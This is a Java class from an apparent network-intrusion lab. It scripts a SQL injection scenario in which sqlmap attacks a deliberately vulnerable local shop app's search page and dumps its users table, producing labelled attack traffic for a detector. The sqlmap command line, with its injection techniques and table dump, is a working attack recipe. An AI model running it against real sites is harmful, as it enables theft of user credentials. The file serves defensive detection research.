package gatewatch.sensor.lab.scenario.attack;

import gatewatch.features.truth.TruthCategory;
import gatewatch.sensor.lab.LabException;
import gatewatch.sensor.lab.scenario.LabRun;
import gatewatch.sensor.lab.scenario.Tool;
import gatewatch.sensor.lab.service.VulnWebApp;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.regex.Pattern;

/**
 * sqlmap finding the SQL injection of the shop's search page and dumping its users table:
 * boolean-blind, error-based and UNION techniques, level 1 and risk 1, one thread, the DBMS
 * named (SQLite) so it does not fingerprint others. Labelled r2l/sql_injection, a label of its
 * own: KDD'99 has no SQL injection, and its web attack phf is a different act (a shell, not a
 * database). sqlmap sends {@code Connection: close}, so each request is a connection; its
 * traffic file numbers the requests. {@code --disable-precon} (a hidden option) stops it from
 * opening connections ahead of use: the last of those went unused, one empty connection more.
 */
public final class R2lSqlInjection extends WebAttackScenario {
    static final Tool SQLMAP = Tool.of("sqlmap", "sqlmap", "--version");
    private static final Pattern REQUEST = Pattern.compile("(?m)^HTTP request \\[#(\\d+)]:");

    public R2lSqlInjection() {
        super(TruthCategory.R2L, "sql_injection");
    }

    @Override
    public String name() {
        return "r2l-sql-injection";
    }

    @Override
    public String summary() {
        return "r2l/sql_injection: sqlmap --technique=BEU --level 1 --risk 1 dumping the users of the shop's search page; customers (normal)";
    }

    @Override
    List<Tool> attackTools() {
        return List.of(SQLMAP);
    }

    @Override
    void attack(LabRun lab, VulnWebApp app, String attacker) throws IOException {
        Path traffic = lab.workDir().resolve("sqlmap-traffic.txt");
        String out = lab.client("sqlmap", Duration.ofSeconds(90), command(lab, traffic.toString())).requireOk().output();
        if (!out.contains(VulnWebApp.ADMIN_PASSWORD)) {
            throw new LabException("sqlmap did not dump the users table (no admin password in its output): " + tail(out));
        }
        long requests = requests(Files.readString(traffic));
        if (requests == 0) {
            throw new LabException("sqlmap's traffic file " + traffic + " holds no request");
        }
        lab.report("requests", requests);
    }

    static List<String> command(LabRun lab, String trafficFile) {
        return List.of(lab.path(SQLMAP), "-u", VulnWebApp.url(lab) + "/search.php?q=lamp", "-p", "q", "--batch",
                "--dbms=SQLite", "--technique=BEU", "--level=1", "--risk=1", "--threads=1", "--timeout=10", "--retries=1",
                "--flush-session", "--disable-coloring", "--disable-precon", "--output-dir=" + lab.workDir().resolve("sqlmap"),
                "-t", trafficFile, "-T", "users", "--dump");
    }

    /** The number of requests in a sqlmap traffic file (-t): the highest request number. */
    static long requests(String trafficFile) {
        return REQUEST.matcher(trafficFile).results().mapToLong(m -> Long.parseLong(m.group(1))).max().orElse(0);
    }

    private static String tail(String s) {
        return s.length() > 400 ? s.substring(s.length() - 400) : s;
    }
}
